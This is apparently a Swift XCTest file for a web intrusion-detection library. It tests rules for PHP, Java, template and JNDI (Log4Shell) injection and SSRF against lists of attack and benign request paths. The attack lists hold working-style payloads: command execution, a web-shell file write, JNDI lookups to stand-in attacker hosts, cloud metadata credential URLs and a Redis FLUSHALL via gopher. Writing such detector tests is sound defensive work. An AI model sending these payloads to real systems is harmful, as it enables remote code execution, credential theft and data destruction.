import DSToolKit
import XCTest
@testable import DSToolTrace

final class PHPCodeInjectionTests: XCTestCase {
    func testAttacks() {
        WebTest.check(PHPCodeInjection.rule.id, attacks: [
            "/index.php?x=%3C%3Fphp%20system($_GET[c]);%3F%3E",
            "/index.php?x=eval($_POST[1])",
            "/index.php?x=assert(%27phpinfo()%27)",
            "/index.php?x=system(%27id%27)",
            "/index.php?x=base64_decode(%27cGhwaW5mbygpOw==%27)",
            "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
            "/index.php?x=die(md5(1234))",
            "/index.php?x=phpinfo()",
            "/index.php?x=${@print(md5(1))}",
            "/index.php?x=file_put_contents(%27s.php%27,%27x%27)",
        ], benign: [
            "/search?q=operating+system+(os)",
            "/docs/php/eval-function",
            "/search?q=assert+yourself",
            "/search?q=php+tutorial",
            "/blog/system-design",
        ])
    }
}

final class JavaCodeInjectionTests: XCTestCase {
    func testAttacks() {
        WebTest.check(JavaCodeInjection.rule.id, attacks: [
            "/struts2/index.action?redirect:%24%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%7D",
            "/x.action?%25%7B(%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS)%7D",
            "/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "/x?expr=T(java.lang.Runtime).getRuntime().exec(%27id%27)",
            "/x?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            "/x?y=new%20java.lang.ProcessBuilder(%27id%27).start()",
        ], benign: [
            "/docs/java/lang/runtime",
            "/api/class/schedule?id=3",
            "/search?q=java+classloader+tutorial",
        ])
    }
}

final class TemplateInjectionTests: XCTestCase {
    func testAttacks() {
        WebTest.check(TemplateInjection.rule.id, attacks: [
            "/hello?name=%7B%7B7*7%7D%7D",
            "/hello?name=${7*7}",
            "/hello?name=%3C%25%3D%207*7%20%25%3E",
            "/hello?name=%23%7B7*7%7D",
            "/hello?name={{config.items()}}",
            "/hello?name={{%27%27.__class__.__mro__[1].__subclasses__()}}",
            "/hello?name={%25%20import%20os%20%25}",
            "/hello?t=%3C%23assign%20ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E",
        ], benign: [
            "/api/search?filter=%7B%22name%22%3A%22x%22%7D",
            "/price?x=7*7",
            "/docs/templates/jinja",
            "/hello?name=curly%7Bbrace",
        ])
    }
}

final class JNDIInjectionTests: XCTestCase {
    func testAttacks() {
        WebTest.check(JNDIInjection.rule.id, attacks: [
            "/?x=${jndi:ldap://evil.example/a}",
            "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
            "/?x=${${lower:j}ndi:ldap://evil.example/a}",
            "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "/?x=${${env:NOTHING:-j}ndi:dns://evil.example}",
        ], benign: [
            "/?x=${price}",
            "/docs/jndi-overview",
            "/?template=%24%7Bname%7D",
        ])
    }

    func testHeaders() {
        let ua = WebTest.detect("GET / HTTP/1.1", agent: "${jndi:ldap://203.0.113.5:1389/Exploit}")
        XCTAssertNotNil(ua[JNDIInjection.rule.id])
        let obf = WebTest.detect("GET / HTTP/1.1", agent: "${${upper:j}${lower:N}di:ldap://x/a}")
        XCTAssertNotNil(obf[JNDIInjection.rule.id])
        let ref = WebTest.detect("GET / HTTP/1.1", referer: "${jndi:ldap://x/a}")
        XCTAssertNotNil(ref[JNDIInjection.rule.id])
    }
}

final class ServerSideRequestForgeryTests: XCTestCase {
    func testAttacks() {
        WebTest.check(ServerSideRequestForgery.rule.id, attacks: [
            "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "/fetch?url=http://metadata.google.internal/computeMetadata/v1/",
            "/fetch?url=http://127.0.0.1:8080/admin",
            "/fetch?url=http://localhost/server-status",
            "/fetch?url=http://10.0.0.5/",
            "/fetch?url=http://192.168.1.1/",
            "/fetch?url=http://2130706433/",
            "/fetch?url=http://0x7f000001/",
            "/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL",
            "/fetch?url=dict://127.0.0.1:11211/stats",
            "/fetch?url=http://[::1]/",
            "/fetch?url=http://example.com@127.0.0.1/",
        ], benign: [
            "/fetch?url=https://example.com/feed.xml",
            "/redirect?to=https://partner.example/",
            "/share?u=http%3A%2F%2Fnews.example%2Fstory",
            "/ip-info?address=10.0.0.5",
        ])
    }
}
